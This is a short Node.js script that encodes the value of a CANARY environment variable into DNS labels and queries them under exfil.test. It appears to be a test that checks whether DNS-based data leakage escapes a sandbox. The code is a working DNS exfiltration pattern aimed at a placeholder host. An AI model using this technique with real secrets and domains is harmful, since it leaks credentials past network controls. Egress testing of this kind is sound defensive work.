// Asks for a name that holds the secret, in labels of eight letters.
import { Resolver } from 'node:dns/promises';

const type = process.argv[2];
const labels = process.env.CANARY.match(/.{1,8}/g).join('.');
await new Resolver({ timeout: 1000, tries: 1 })
  .resolve(`${labels}.exfil.test`, type)
  .catch((error) => console.log(error.code));
